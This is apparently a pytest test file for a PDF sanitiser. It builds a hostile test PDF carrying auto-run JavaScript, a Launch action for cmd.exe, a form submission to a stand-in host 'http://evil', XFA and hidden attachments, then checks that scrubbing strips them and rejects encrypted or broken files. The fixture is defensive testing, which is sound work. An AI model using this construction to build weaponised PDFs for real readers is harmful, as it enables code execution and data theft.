"""Scrubbing PDFs: needs the optional package pikepdf, and is skipped without it."""

from __future__ import annotations

from io import BytesIO
from typing import Any  # the optional package pikepdf

import pytest

from tests.evidence import pictures

pikepdf: Any = pytest.importorskip(  # Any: an optional package, known only where it is installed
    "pikepdf", reason="pikepdf is not installed: no PDF is accepted here"
)

from formkit.evidence.documents import Encrypted, scrubbed  # noqa: E402  # needs what was asked for above

SECRETS = ("app.alert", "cmd.exe", "hidden.txt", "xfa-template", "CANARYTITLE", "CANARYXMP", "http://evil")


def evil() -> bytes:
    """A PDF with everything that can act or tell."""
    document = pikepdf.new()
    page = document.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    root = document.Root
    root.OpenAction = script
    root.AA = pikepdf.Dictionary(WC=script)
    root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(document, b"xfa-template"), Fields=pikepdf.Array())
    root.Outlines = document.make_indirect(pikepdf.Dictionary(First=pikepdf.Dictionary(A=launch)))
    page.obj.AA = pikepdf.Dictionary(O=document.make_indirect(launch))
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil")
    page.obj.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=send, Rect=[0, 0, 9, 9]),
            document.make_indirect(
                pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, Contents="hidden.txt")
            ),
        ]
    )
    document.attachments["hidden.txt"] = b"hidden.txt"
    with document.open_metadata() as metadata:
        metadata["dc:title"] = "CANARYXMP"
    document.docinfo["/Title"] = "CANARYTITLE"
    return saved(document)


def saved(document: Any, **options: object) -> bytes:  # Any: of an optional package
    """The document as bytes in which nothing is packed."""
    kept = BytesIO()
    unpacked = {"object_stream_mode": pikepdf.ObjectStreamMode.disable, "compress_streams": False}
    document.save(kept, **unpacked, **options)
    return kept.getvalue()


def unpacked(content: bytes) -> str:
    """Everything that a document says, with nothing packed."""
    document = pikepdf.open(BytesIO(content))
    return saved(document, stream_decode_level=pikepdf.StreamDecodeLevel.specialized).decode("latin-1")


def test_nothing_that_acts_or_tells_is_left() -> None:
    before, after = unpacked(evil()), unpacked(scrubbed(evil()))
    assert [secret for secret in SECRETS if secret not in before] == []
    assert [secret for secret in SECRETS if secret in after] == []
    names = (
        "/JavaScript",
        "/JS",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/EmbeddedFiles",
        "/XFA",
        "/Info",
        "/Metadata",
    )
    assert [name for name in names if name in after] == []


def test_the_pages_of_a_scan_stay() -> None:
    cleaned = scrubbed(pictures.scan(3))
    assert len(pikepdf.open(BytesIO(cleaned)).pages) == 3
    assert pictures.CANARY not in unpacked(cleaned)


def test_what_hides_behind_a_document_is_gone() -> None:
    assert b"PK\x03\x04" not in scrubbed(pictures.scan() + pictures.zipped(a="x"))


def test_a_document_that_only_forbids_printing_is_kept_open() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    locked = saved(document, encryption=pikepdf.Encryption(owner="o", user=""))
    assert not pikepdf.open(BytesIO(scrubbed(locked))).is_encrypted


def test_a_document_with_a_password_is_refused() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    with pytest.raises(Encrypted):
        scrubbed(saved(document, encryption=pikepdf.Encryption(owner="o", user="u")))


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", pictures.scan()[:-200], b""])
def test_a_broken_document_is_refused(content: bytes) -> None:
    with pytest.raises(pikepdf.PdfError):
        scrubbed(content)


def test_a_document_without_pages_is_refused() -> None:
    with pytest.raises(ValueError, match="no pages"):
        scrubbed(saved(pikepdf.new()))


def test_a_document_that_points_at_itself_comes_to_an_end() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    ring = document.make_indirect(pikepdf.Dictionary())
    ring.Next = ring
    document.Root.Ring = ring
    assert scrubbed(saved(document))
